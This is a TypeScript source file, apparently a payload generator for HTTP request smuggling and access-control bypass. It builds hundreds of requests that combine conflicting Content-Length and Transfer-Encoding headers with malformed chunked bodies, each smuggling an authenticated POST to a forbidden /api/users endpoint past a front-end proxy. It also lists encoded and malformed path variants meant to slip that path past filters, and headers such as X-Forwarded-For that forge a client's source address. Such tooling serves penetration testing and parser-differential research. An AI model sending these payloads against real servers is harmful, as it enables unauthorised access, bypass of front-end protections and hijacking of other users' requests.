/** Requests that two parsers may read as two different things: bodies of two lengths, odd headers, odd paths. */

/** What the front keeps from everybody, as it would be smuggled. */
export interface Hidden {
  readonly host: string;
  readonly token: string;
  /** The account that there is when it came through. */
  readonly username: string;
}

const crlf = '\r\n';
const hiddenBody = ({ username }: Hidden) => JSON.stringify({ username });

/** A request for what is forbidden, whole. */
export function hiddenRequest(hidden: Hidden, target = '/api/users'): string {
  const body = hiddenBody(hidden);
  return [
    `POST ${target} HTTP/1.1`,
    `Host: ${hidden.host}`,
    `Authorization: Bearer ${hidden.token}`,
    'Content-Type: application/json',
    `Content-Length: ${body.length}`,
    '',
    body,
  ].join(crlf);
}

const chunk = (text: string) => `${text.length.toString(16)}${crlf}${text}${crlf}`;

/** Headers that say how long a body is, in ways on which parsers differ. `length` of the whole body. */
const lengths: readonly ((length: number, short: number) => readonly string[])[] = [
  (length) => [`Content-Length: ${length}`, 'Transfer-Encoding: chunked'],
  (_, short) => [`Content-Length: ${short}`, 'Transfer-Encoding: chunked'],
  (_, short) => ['Transfer-Encoding: chunked', `Content-Length: ${short}`],
  ...[
    'Transfer-Encoding: xchunked',
    'Transfer-Encoding : chunked',
    'Transfer-Encoding:\tchunked',
    'Transfer-Encoding:\x0bchunked',
    ' Transfer-Encoding: chunked',
    'X: x\nTransfer-Encoding: chunked',
    'Transfer-Encoding\r\n : chunked',
    'Transfer-Encoding:\r\n chunked',
    'Transfer-Encoding: chunked\r\nTransfer-Encoding: identity',
    'Transfer-Encoding: identity\r\nTransfer-Encoding: chunked',
    'Transfer-Encoding: chunked\r\nTransfer-Encoding: cow',
    'Transfer-Encoding: chunked, identity',
    'Transfer-Encoding: identity, chunked',
    'Transfer-Encoding: "chunked"',
    'transfer-encoding: CHUNKED',
    'Transfer_Encoding: chunked',
    'Transfer-Encoding: chunked\0',
    'Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked',
    'Connection: Content-Length',
  ].flatMap((line) => [
    (length: number) => [`Content-Length: ${length}`, line],
    (_: number, short: number) => [`Content-Length: ${short}`, line],
    () => [line],
  ]),
  (length, short) => [`Content-Length: ${length}`, `Content-Length: ${short}`],
  (length, short) => [`Content-Length: ${short}`, `Content-Length: ${length}`],
  (length, short) => [`Content-Length: ${short}, ${length}`],
  (length) => [`Content-Length: +${length}`],
  (length) => [`Content-Length: ${length}abc`],
  (length) => [`Content-Length: 0x${length.toString(16)}`],
  (length) => [`Content-Length:\r\n ${length}`],
  (length) => [`Content-Length : ${length}`],
  (length) => [`X: y\rContent-Length: ${length}`],
  () => ['Content-Length: 0'],
  () => ['Content-Length: -1'],
  () => ['Content-Length: 18446744073709551616'],
  (length) => [`Content-Length: ${length}`, 'Expect: 100-continue'],
  (length) => [`Content-Length: ${length}`, 'Upgrade: websocket', 'Connection: Upgrade'],
  () => ['Upgrade: h2c', 'HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA', 'Connection: Upgrade'],
];

/** Bodies that are over for one and not for the other. */
const bodies: readonly ((inner: string) => readonly [body: string, short: number])[] = [
  (inner) => [`0${crlf}${crlf}${inner}`, 5],
  (inner) => [`${chunk('{}')}0${crlf}${crlf}${inner}`, 4],
  (inner) => [`${chunk(`{}${crlf}${inner}`)}0${crlf}${crlf}`, 4],
  (inner) => [`2;x="${crlf}"${crlf}{}${crlf}0${crlf}${crlf}${inner}`, 4],
  (inner) => [`2\n{}\n0\n\n${inner}`, 3],
  (inner) => [`0x2${crlf}{}${crlf}0${crlf}${crlf}${inner}`, 3],
  (inner) => [`10000000000000002${crlf}{}${crlf}0${crlf}${crlf}${inner}`, 3],
  (inner) => [`0${crlf}X: y${crlf}${crlf}${inner}`, 5],
  (inner) => [inner, 0],
];

/** Every way of saying a length with every body. `path`: one that the front lets through. */
export function* smuggled(hidden: Hidden, path: string): Generator<string> {
  const inner = hiddenRequest(hidden);
  for (const say of lengths)
    for (const make of bodies)
      for (const [method, version] of [
        ['POST', '1.1'],
        ['GET', '1.1'],
        ['POST', '1.0'],
      ]) {
        const [body, short] = make(inner);
        yield [
          `${method} ${path} HTTP/${version}`,
          `Host: ${hidden.host}`,
          'Content-Type: application/json',
          ...say(body.length, short),
          '',
          body,
        ].join(crlf);
      }
}

/** The forbidden path, as somebody would write it who hopes that the front reads another one. */
export const oddTargets = (host: string): readonly string[] => [
  ...['//api/users', '/api//users', '/./api/users', '/api/./users', '/x/../api/users'],
  ...['/x/..%2fapi/users', '/api/%2e/users', '/%2e%2e/api/users', '/api/..;/api/users'],
  ...[
    '/api/%75sers',
    '/%61pi/users',
    '/api%2fusers',
    '/api%2Fusers',
    '/api/users%2f',
    '/api/users/',
  ],
  ...[
    '/API/users',
    '/api/Users',
    '/api/users;x=1',
    ';/api/users',
    '/api/users%00',
    '/api/users%20',
  ],
  ...[
    '/api\\users',
    '\\api\\users',
    '/api/users?',
    '/api/users#x',
    '?/../api/users',
    '#/api/users',
  ],
  ...[`http://${host}/api/users`, 'http://elsewhere.example/api/users', `HTTP://${host}/api/users`],
  ...[`//${host}/api/users`, 'http:/api/users', 'http:///api/users', 'http://x@y/api/users'],
  ...[
    '/healthz?/api/users',
    '/healthz/../api/users',
    '/healthz%0d%0a/api/users',
    '/healthz /api/users',
  ],
  ...['*', 'api/users', '/\tapi/users', '/api/users\t', '/api/\u00fcsers', '/api/us%c0%afers'],
];

/** Headers by which a stranger says that he is somebody else. */
export const forgedSources = (address: string): readonly string[] => [
  `X-Forwarded-For: ${address}`,
  `X-Forwarded-For: ${address}\r\nX-Forwarded-For: ${address}`,
  `x-forwarded-for: ${address}, ${address}`,
  `X-Forwarded-For: ${address},127.0.0.1`,
  `X-Forwarded-For: ${address}\r\n , 127.0.0.1`,
  `X-Forwarded-For:\r\n ${address}`,
  `X_Forwarded_For: ${address}`,
  `Connection: X-Forwarded-For\r\nX-Forwarded-For: ${address}`,
  `X-Forwarded-For: ${'127.0.0.1, '.repeat(40)}${address}`,
  `X-Real-IP: ${address}\r\nForwarded: for=${address}\r\nTrue-Client-IP: ${address}`,
  `X-Forwarded-For: "${address}"\r\nX-Forwarded-For : ${address}`,
];
